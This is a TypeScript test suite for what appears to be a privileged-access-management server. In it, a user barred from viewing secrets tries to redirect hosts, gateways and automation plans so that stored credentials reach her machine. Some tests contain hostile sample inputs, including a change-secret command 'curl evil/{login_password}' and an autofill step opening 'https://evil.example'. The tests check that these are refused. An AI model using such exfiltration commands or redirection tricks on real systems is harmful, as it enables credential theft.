import { randomUUID } from 'node:crypto'
import { defaultOrgId, roleIds } from '@castellan/contract/ids'
import { orgPermissions, permissionByCode } from '@castellan/contract/permissions'
import { type AnyRow, ApiError, type Client, registerComponent } from '@castellan/testing/client'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { startServer, type TestServer } from '../../testing/server.ts'
import { openTrap, type Trap } from '../../testing/trap.ts'

/** Everything that leads to the sending of a stored secret, with sources and destinations decided by who may not see it. */
let server: TestServer
/** Has every permission in the organization except seeing secrets. */
let mallory: Client
let malloryId: string
let gateway: Client
/** Mallory's machine, and the one that the assets are meant to be. */
let own: Trap
let real: Trap
beforeAll(async () => {
  server = await startServer({ worker: true })
  own = await openTrap()
  real = await openTrap()
  const unseen = ['accounts.view_accountsecret', 'accounts.view_accounttemplatesecret']
  const permissions = orgPermissions.filter((code) => !unseen.includes(code)).map((code) => permissionByCode(code)?.id)
  const role = await server.admin.collection('rbac/org-roles').create({ name: 'blind', scope: 'org', permissions })
  malloryId = await server.person('mallory', { system: [roleIds.user], org: [role.id] })
  mallory = await server.as(malloryId, defaultOrgId)
  gateway = (await registerComponent(server.url, server.bootstrapToken, 'connects')).in('ROOT')
})
afterAll(async () => {
  await own.close()
  await real.close()
  await server.close()
})

const api = '/api/v1/'
const ssh = (port: number) => [{ name: 'ssh', port }]
const make = (path: string, body: object, client = server.admin) =>
  client.collection(path).create({ name: `n-${randomUUID()}`, ...body })
const host = (port: number, more: object = {}, client = server.admin) =>
  make('assets/hosts', { address: '127.0.0.1', platform: 1, protocols: ssh(port), ...more }, client)
/** What becomes of a call: attacks may be refused at any step. */
const tried = (call: Promise<unknown>): Promise<number> =>
  call.then(
    () => 200,
    (error) => (error instanceof ApiError ? error.status : Promise.reject(error)),
  )
const taskOf = (answer: unknown) =>
  String((answer as { task?: string; task_id?: string }).task ?? (answer as AnyRow).task_id)

async function finished(task: string): Promise<void> {
  const isFinished = async () =>
    (await server.admin.request<AnyRow>('GET', `${api}ops/task-executions/${task}/`)).is_finished
  await expect.poll(isFinished, { timeout: 25_000, interval: 50 }).toBe(true)
}
/** Starts a task and waits for its end; a refusal is fine. */
async function done(client: Client, method: string, path: string, body?: unknown): Promise<number> {
  try {
    await finished(taskOf(await client.request(method, api + path, body)))
    return 200
  } catch (error) {
    if (error instanceof ApiError) return error.status
    throw error
  }
}
const accountsOf = (asset: unknown) => server.admin.collection('accounts/accounts').all({ asset: String(asset) })

interface Victim {
  host: AnyRow
  account: AnyRow
  template: AnyRow
  secret: string
}
/** A host with an account that follows a template, all made by an administrator. */
async function victim(): Promise<Victim> {
  const secret = `template-${randomUUID()}`
  const template = await make('accounts/account-templates', { username: 'svc', secret })
  const row = await host(real.port, { accounts: [{ template: template.id }] })
  await make('perms/asset-permissions', {
    ...{ users: [malloryId], assets: [row.id], accounts: ['@ALL'], actions: ['all'], protocols: ['all'] },
  })
  const [account] = await accountsOf(row.id)
  return { host: row, account: account as AnyRow, template, secret }
}
const clear = ({ account }: Victim) =>
  tried(mallory.request('PATCH', `${api}accounts/accounts/clear-secret/`, { account_ids: [account.id] }))
const sync = ({ template }: Victim) =>
  done(mallory, 'PATCH', `accounts/account-templates/${template.id}/sync-related-accounts/`)
const accountTask =
  (action: string, by: () => Client = () => mallory) =>
  ({ account }: Victim) =>
    done(by(), 'POST', 'accounts/accounts/tasks/', { action, accounts: [account.id] })

/** How the way to an asset is changed; each leads to Mallory's machine. */
const redirections: Record<string, (one: Victim) => Promise<unknown>> = {
  'its port': ({ host: { id } }) => tried(mallory.collection('assets/hosts').change(id, { protocols: ssh(own.port) })),
  'its address, in bulk': ({ host: { id } }) =>
    tried(mallory.request('PATCH', `${api}assets/hosts/`, [{ id, address: 'localhost', protocols: ssh(own.port) }])),
  'a domain with a gateway': async ({ host: { id } }) => {
    const domain = await make('assets/domains', {}, mallory)
    const door = { ...{ address: '127.0.0.1', protocols: ssh(own.port), domain: domain.id } }
    await tried(make('assets/gateways', { ...door, accounts: [{ username: 'me', secret: 'mine' }] }, mallory))
    await tried(mallory.collection('assets/hosts').change(id, { domain: domain.id, protocols: ssh(own.port) }))
  },
  'a gateway of its domain': async ({ host: { id } }) => {
    const domain = await make('assets/domains', { assets: [id] })
    const door = { ...{ address: '127.0.0.1', protocols: ssh(own.port), domain: domain.id } }
    await tried(make('assets/gateways', { ...door, accounts: [{ username: 'me', secret: 'mine' }] }, mallory))
  },
  'no domain any more': async ({ host: { id } }) => {
    await server.admin.collection('assets/hosts').change(id, { protocols: ssh(own.port) })
    const domain = await make('assets/domains', { assets: [id] })
    await make('assets/gateways', {
      address: '127.0.0.1',
      protocols: ssh(real.port),
      domain: domain.id,
      is_active: false,
    })
    await tried(mallory.collection('assets/domains').delete(domain.id))
  },
}

/** What sends the secret of an account; by Mallory, or for Mallory. */
const sendings: Record<string, (one: Victim) => Promise<unknown>> = {
  verify: accountTask('verify'),
  push: async (one) => {
    const signsIn = { asset: one.host.id, username: 'root', secret: 'mine', privileged: true }
    const root = await make('accounts/accounts', signsIn, mallory)
    await accountTask('push')(one)
    await server.admin.collection('accounts/accounts').delete(root.id)
  },
  'verify by an administrator': accountTask('verify', () => server.admin),
  'test of the asset': ({ host: { id } }) =>
    done(mallory, 'POST', 'assets/assets/tasks/', { action: 'test', assets: [id] }),
  connection: async ({ host: { id }, account }) => {
    const wish = { asset: id, account: account.name, protocol: 'ssh', connect_method: 'web_cli' }
    const token = await mallory.collection('authentication/connection-token').create(wish)
    const answer = gateway.request('POST', `${api}authentication/super-connection-token/secret/`, { id: token.id })
    own.caught.push(
      JSON.stringify(await answer.catch((error) => (error instanceof ApiError ? '' : Promise.reject(error)))),
    )
  },
  job: async ({ host: { id }, account }) => {
    const body = { name: 'j', type: 'adhoc', module: 'shell', args: 'id', runas_policy: 'skip', timeout: 20 }
    return done(mallory, 'POST', 'ops/jobs/', { ...body, assets: [id], runas: account.username, instant: true })
  },
}

describe('a secret that comes to an account later', () => {
  for (const [how, redirect] of Object.entries(redirections))
    it(`is not sent to an asset after somebody who may not see it decided ${how}`, async () => {
      const one = await victim()
      expect(await clear(one)).toBe(200)
      await redirect(one)
      await sync(one)
      expect(await server.admin.collection('accounts/accounts').get(one.account.id)).toMatchObject({ has_secret: true })
      for (const send of Object.values(sendings)) await send(one)
      expect(own.caught.filter((text) => text.includes(one.secret))).toEqual([])
      // An administrator who may see secrets saves the ways to it, and the same calls send it.
      const at = { address: '127.0.0.1', protocols: ssh(own.port) }
      await server.admin.collection('assets/hosts').change(one.host.id, { ...at, domain: null })
      for (const [name, send] of Object.entries(sendings)) {
        own.caught.length = 0
        await send(one)
        expect(
          own.caught.some((text) => text.includes(one.secret)),
          name,
        ).toBe(true)
      }
    })

  it('is sent where its owner entered it after the destination was decided, and nowhere else', async () => {
    const mine = await host(own.port, { accounts: [{ username: 'me', secret: 'my-own-secret' }] }, mallory)
    const [account] = await accountsOf(mine.id)
    const template = await make('accounts/account-templates', { username: 'given', secret: 'given-by-admin' })
    const given = await make('accounts/accounts', { asset: mine.id, template: template.id })
    own.caught.length = 0
    for (const { id } of [account as AnyRow, given])
      expect(await done(mallory, 'POST', 'accounts/accounts/tasks/', { action: 'verify', accounts: [id] })).toBe(200)
    expect(own.caught).toEqual(['my-own-secret', 'given-by-admin'])
    // What follows from the template later was not given by anybody who may see it.
    await server.admin.collection('accounts/account-templates').change(template.id, { secret: 'second-by-admin' })
    await done(mallory, 'PATCH', `accounts/account-templates/${template.id}/sync-related-accounts/`)
    own.caught.length = 0
    await done(mallory, 'POST', 'accounts/accounts/tasks/', { action: 'verify', accounts: [given.id] })
    expect(own.caught).toEqual([])
    // Decided anew, it is another destination.
    await mallory.request('PATCH', `${api}accounts/accounts/clear-secret/`, { account_ids: [account?.id, given.id] })
    await mallory.collection('assets/hosts').change(mine.id, { address: 'localhost' })
    await done(mallory, 'PATCH', `accounts/account-templates/${template.id}/sync-related-accounts/`)
    own.caught.length = 0
    await done(mallory, 'POST', 'accounts/accounts/tasks/', { action: 'verify', accounts: [given.id] })
    expect(own.caught).toEqual([])
  })
})

describe.each([
  ['change-secret', 'change-secret-automations', 'change-secret-executions'],
  ['push-account', 'push-account-automations', 'push-account-executions'],
])('the secret of a plan (%s)', (targets, plans, executions) => {
  const accounts = [
    { username: 'root', secret: 'mine', privileged: true },
    { username: 'svc', secret: 'mine-too' },
  ]
  const planOf = async (secret: string, more: object) => {
    const body = { accounts: ['svc'], secret_type: 'password', secret_strategy: 'specific', secret, is_periodic: false }
    return make(`accounts/${plans}`, { ...body, ...more })
  }
  const run = (plan: AnyRow, client = mallory) =>
    done(client, 'POST', `accounts/${executions}/`, { automation: plan.id })
  const arrived = (secret: string) => own.caught.some((text) => text.includes(secret))

  /** How a machine of Mallory's becomes a target: one that Mallory made, or one that is there and trusted. */
  const ways: Record<string, (plan: AnyRow, target: AnyRow, node: AnyRow) => Promise<unknown>> = {
    'added to its assets': (plan, { id }) =>
      mallory.request('PATCH', `${api}accounts/${targets}/${plan.id}/asset/add/`, { assets: [id] }),
    'among its assets': (plan, { id }) => mallory.collection(`accounts/${plans}`).change(plan.id, { assets: [id] }),
    'in one of its nodes, added': async (plan, { id }) => {
      const node = await server.admin.request<AnyRow>('POST', `${api}assets/nodes/`, { value: `own-${randomUUID()}` })
      await mallory.collection('assets/hosts').change(id, { nodes: [node.id] })
      return mallory.request('PUT', `${api}accounts/${targets}/${plan.id}/nodes/?action=add`, { nodes: [node.id] })
    },
    'moved into its node': (_plan, { id }, node) => mallory.collection('assets/hosts').change(id, { nodes: [node.id] }),
    'added to its node': (_plan, { id }, node) =>
      mallory.request('PUT', `${api}assets/nodes/${node.id}/assets/add/`, { assets: [id] }),
    'in a node that was moved into its node': async (_plan, { id }, node) => {
      const other = await server.admin.request<AnyRow>('POST', `${api}assets/nodes/`, {
        value: `other-${randomUUID()}`,
      })
      await server.admin.collection('assets/hosts').change(id, { nodes: [other.id] })
      return mallory.request('PUT', `${api}assets/nodes/${node.id}/children/add/`, { nodes: [other.id] })
    },
  }
  for (const [way, lead] of Object.entries(ways))
    it(`does not arrive at a host that is ${way} by somebody who may not see it`, async () => {
      for (const client of [mallory, server.admin]) {
        const secret = `Plan-${randomUUID()}`
        const target = await host(own.port, { accounts }, client)
        const node = await server.admin.request<AnyRow>('POST', `${api}assets/nodes/`, { value: `n-${randomUUID()}` })
        const plan = await planOf(secret, { nodes: [node.id] })
        await tried(lead(plan, target, node))
        await run(plan)
        expect(arrived(secret)).toBe(false)
        // Whoever may see secrets makes it a target, and it arrives.
        await server.admin.collection('assets/hosts').change(target.id, { address: '127.0.0.1', nodes: [node.id] })
        await run(plan)
        expect(arrived(secret)).toBe(true)
      }
    })

  it('waits at a host that somebody made who may not see it, whoever chose it for the plan', async () => {
    const secret = `Plan-${randomUUID()}`
    const target = await host(own.port, { accounts }, mallory)
    const plan = await planOf(secret, { assets: [target.id] })
    await run(plan, server.admin)
    expect(arrived(secret)).toBe(false)
    await server.admin.collection('assets/hosts').change(target.id, { address: '127.0.0.1' })
    await run(plan, server.admin)
    expect(arrived(secret)).toBe(true)
  })

  it('does not arrive when it is given to other accounts or in another way, unless they enter it themselves', async () => {
    const plan = await planOf('Plan-Secret-1', { assets: [(await host(real.port)).id] })
    const change = (body: object) => tried(mallory.collection(`accounts/${plans}`).change(plan.id, body))
    expect(await change({ accounts: ['svc', 'mallory'] })).toBe(403)
    expect(await change({ params: { change_secret_by_ssh: { commands: ['echo {password}'] } } })).toBe(403)
    expect(await change({ comment: 'x', accounts: ['svc'] })).toBe(200)
    const target = await host(own.port, { accounts }, mallory)
    expect(await change({ assets: [target.id], secret: 'Mallory-Knows-1' })).toBe(200)
    expect(await change({ accounts: ['svc', 'mallory'] })).toBe(200)
    await run(plan)
    expect(arrived('Mallory-Knows-1')).toBe(true)
    expect(arrived('Plan-Secret-1')).toBe(false)
  })

  it('stays with the host it was for, in records that are retried and in later runs', async () => {
    const secret = `Plan-${randomUUID()}`
    const target = await host(real.port, { accounts })
    const plan = await planOf(secret, { assets: [target.id] })
    await run(plan, server.admin)
    expect(real.caught.some((text) => text.includes(secret))).toBe(true)
    const records = 'accounts_changesecretrecord'
    const { rawDb } = server.context()
    const record = await rawDb.selectFrom(records).select('id').where('asset_id', '=', target.id).executeTakeFirst()
    await rawDb.updateTable(records).set({ status: 'failed' }).where('id', '=', record?.id).execute()
    const ids = (await accountsOf(target.id)).map(({ id }) => id)
    await mallory.request('PATCH', `${api}accounts/accounts/clear-secret/`, { account_ids: ids })
    expect(await tried(mallory.collection('assets/hosts').change(target.id, { protocols: ssh(own.port) }))).toBe(200)
    for (const row of await accountsOf(target.id))
      await mallory.collection('accounts/accounts').change(row.id, { name: row.name, secret: 'my-own' })
    await done(mallory, 'POST', 'accounts/change-secret-records/execute/', { record_id: record?.id })
    await run(plan)
    expect(arrived(secret)).toBe(false)
    // Saved by whoever may see secrets, the record goes where the asset is now.
    await server.admin.collection('assets/hosts').change(target.id, { address: '127.0.0.1' })
    await done(mallory, 'POST', 'accounts/change-secret-records/execute/', { record_id: record?.id })
    expect(arrived(secret)).toBe(true)
    await rawDb.updateTable(records).set({ status: 'failed' }).where('id', '=', record?.id).execute()
    own.caught.length = 0
    // The account moves to another host, and the record with it.
    const mine = await host(own.port, { accounts: accounts.slice(0, 1) })
    const [svc] = (await accountsOf(target.id)).filter(({ username }) => username === 'svc')
    await mallory.collection('accounts/accounts').change(String(svc?.id), { name: 'svc', asset: mine.id, secret: 'x' })
    await done(mallory, 'POST', 'accounts/change-secret-records/execute/', { record_id: record?.id })
    expect(arrived(secret)).toBe(false)
  })
})

describe('who may not see secrets', () => {
  it('cannot decide where they go by other settings either', async () => {
    // With a system role, as far as settings and platforms go.
    const codes = ['settings.view_setting', 'settings.change_vault', 'assets.change_platform', 'assets.view_platform']
    const permissions = codes.map((code) => permissionByCode(code)?.id)
    const role = await server.admin
      .collection('rbac/system-roles')
      .create({ name: 'sets', scope: 'system', permissions })
    const sets = await server.as(await server.person('sets', { system: [role.id] }), defaultOrgId)
    const vault = { VAULT_ENABLED: true, VAULT_HCP_HOST: 'http://127.0.0.1:9', VAULT_HCP_TOKEN: 'mine' }
    expect(await tried(sets.request('PATCH', `${api}settings/setting/?category=vault`, vault))).toBe(403)
    expect(await tried(sets.request('POST', `${api}settings/vault/sync/`, {}))).toBe(403)
    const device = await make('assets/platforms', {
      ...{
        category: { value: 'device' },
        type: { value: 'general' },
        protocols: [{ name: 'ssh', port: 22, primary: true }],
      },
      ...{
        automation: {
          ansible_enabled: true,
          change_secret_enabled: true,
          change_secret_method: 'change_secret_by_ssh',
        },
      },
    })
    const worded = { change_secret_params: { change_secret_by_ssh: { commands: ['curl evil/{login_password}'] } } }
    const change = (automation: object) =>
      tried(sets.request('PATCH', `${api}assets/platforms/${device.id}/`, { automation }))
    expect(await change(worded)).toBe(403)
    expect(await change({ change_secret_enabled: false })).toBe(200)
    expect(await tried(sets.request('PATCH', `${api}assets/platforms/${device.id}/`, { domain_enabled: true }))).toBe(
      200,
    )
  })

  it('cannot trust another machine with what is stored, nor lead a sign-in page elsewhere', async () => {
    const one = await victim()
    await accountTask('verify', () => server.admin)(one)
    const [key] = await server.admin.collection('assets/host-keys').all({ asset: one.host.id })
    expect(await tried(mallory.collection('assets/host-keys').delete(String(key?.id)))).toBe(403)
    const site = await make('assets/webs', {
      ...{
        address: 'https://127.0.0.1',
        platform: { pk: await webPlatform() },
        protocols: [{ name: 'http', port: 443 }],
      },
      ...{ autofill: 'basic', accounts: [{ username: 'web', secret: 'of-the-site' }] },
    })
    const lead = (body: object) => tried(mallory.request('PATCH', `${api}assets/webs/${site.id}/`, body))
    expect(await lead({ script: [{ step: 1, command: 'open', target: 'https://evil.example', value: '' }] })).toBe(403)
    expect(await lead({ password_selector: 'id=theirs' })).toBe(403)
    expect(await lead({ comment: 'x', password_selector: 'name=password' })).toBe(200)
  })
})

async function webPlatform(): Promise<unknown> {
  const [first] = await server.admin.collection('assets/platforms').all({ category: 'web' })
  return first?.id
}
